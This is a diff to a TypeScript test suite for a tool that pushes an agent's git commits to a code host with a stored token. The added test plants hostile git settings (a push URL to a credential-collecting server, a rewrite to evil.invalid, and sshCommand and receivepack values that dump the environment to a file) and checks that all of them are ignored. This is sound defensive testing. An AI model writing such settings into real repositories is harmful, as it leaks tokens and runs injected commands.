@@ -1,5 +1,7 @@
 import assert from 'node:assert/strict';
 import { existsSync, readFileSync, readdirSync, statSync, writeFileSync } from 'node:fs';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
 import { git as gitAsync } from '../src/git/git.ts';
 import { pushCredentialEnvironment } from '../src/git/push-credentials.ts';
@@ -88,6 +90,34 @@ describe('pushing to a code host with its token', () => {
     assert.equal(existsSync(hookOutput), false, 'the pre-push hook did not run with the token in its environment');
   });
 
+  it("ignores what the repository's config says about pushing (an agent can write it), so the token goes only to the project's remote", async () => {
+    const done = await finishedAttempt('configured.txt');
+    const seen: string[] = [];
+    const collector = createServer((req, res) => {
+      seen.push(String(req.headers.authorization));
+      res.writeHead(401, { 'www-authenticate': 'Basic realm="x"' }).end();
+    });
+    await new Promise<void>((resolve) => collector.listen(0, '127.0.0.1', resolve));
+    const leak = join(dirs.path, 'leak.txt');
+    const settings = [
+      ['remote.origin.pushurl', `http://127.0.0.1:${(collector.address() as AddressInfo).port}/acme/widgets.git`],
+      [`url.ssh://evil.invalid/.pushInsteadOf`, origin.repoUrl('acme/widgets')],
+      ['core.sshCommand', `env > '${leak}'; exit 1`],
+      ['remote.origin.receivepack', `env > '${leak}'; exit 1`],
+    ];
+    try {
+      for (const [key, value] of settings) git(repo, 'config', key!, value!);
+      const pushed = await request('POST', `/attempts/${done.id}/push`);
+      assert.equal(pushed.status, 200, JSON.stringify(pushed.body));
+      assert.equal((await gitAsync(['rev-parse', done.branch], { cwd: bare })).stdout.trim(), pushed.body.commit, 'it went to the real remote');
+      assert.deepEqual(seen, [], 'the other server got nothing');
+      assert.equal(existsSync(leak), false, 'no configured command ran');
+    } finally {
+      for (const [key] of settings) git(repo, 'config', '--unset', key!);
+      await new Promise<void>((resolve) => collector.close(() => resolve()));
+    }
+  });
+
   it('answers 502 FORGE_PUSH_FAILED naming the fix when the host refuses the token, and never quotes it', async () => {
     const done = await finishedAttempt('refused.txt');
     origin.setCredentials(null, 'a-token-the-host-expects-instead-0000');
@@ -96,7 +126,7 @@ describe('pushing to a code host with its token', () => {
       assert.equal(refused.status, 502, JSON.stringify(refused.body));
       assert.equal(refused.body.error.code, 'FORGE_PUSH_FAILED');
       assert.match(refused.body.error.message, /Authentication failed/i);
-      assert.match(refused.body.error.message, /refused the token Forge has for it/);
+      assert.match(refused.body.error.message, /GitHub \(github\) at 127\.0\.0\.1, with the token from gitHosts\["127\.0\.0\.1"\]\.token, was refused; check that the token is valid/);
       assert.ok(!JSON.stringify(refused.body).includes(TOKEN));
     } finally {
       origin.setCredentials(null, TOKEN);
@@ -108,7 +138,7 @@ describe('pushing to a code host with its token', () => {
     assert.equal((await request('POST', `/attempts/${done.id}/push`)).status, 200);
     // Someone else adds a commit to the branch on the host.
     const elsewhere = join(dirs.path, 'elsewhere');
-    const helper = pushCredentialEnvironment({ protocol: 'http', host: '127.0.0.1' }, 'someone', TOKEN);
+    const helper = pushCredentialEnvironment(origin.repoUrl('acme/widgets'), 'someone', TOKEN);
     await gitAsync(['clone', '-q', '-b', done.branch, origin.repoUrl('acme/widgets'), elsewhere], { cwd: dirs.path, env: helper });
     await gitAsync(['-c', 'user.email=o@example.com', '-c', 'user.name=O', 'commit', '-q', '--allow-empty', '-m', 'theirs'], { cwd: elsewhere });
     await gitAsync(['push', '-q', 'origin', done.branch], { cwd: elsewhere, env: helper });
@@ -126,7 +156,7 @@ describe('pushing to a code host with its token', () => {
     await gitAsync(['config', 'receive.denyNonFastForwards', 'true'], { cwd: bare });
     // The host's main moves on without us.
     const elsewhere = join(dirs.path, 'moved-main');
-    const helper = pushCredentialEnvironment({ protocol: 'http', host: '127.0.0.1' }, 'someone', TOKEN);
+    const helper = pushCredentialEnvironment(origin.repoUrl('acme/widgets'), 'someone', TOKEN);
     await gitAsync(['clone', '-q', '-b', 'main', origin.repoUrl('acme/widgets'), elsewhere], { cwd: dirs.path, env: helper });
     await gitAsync(['-c', 'user.email=o@example.com', '-c', 'user.name=O', 'commit', '-q', '--allow-empty', '-m', 'moved'], { cwd: elsewhere });
     await gitAsync(['push', '-q', 'origin', 'main'], { cwd: elsewhere, env: helper });
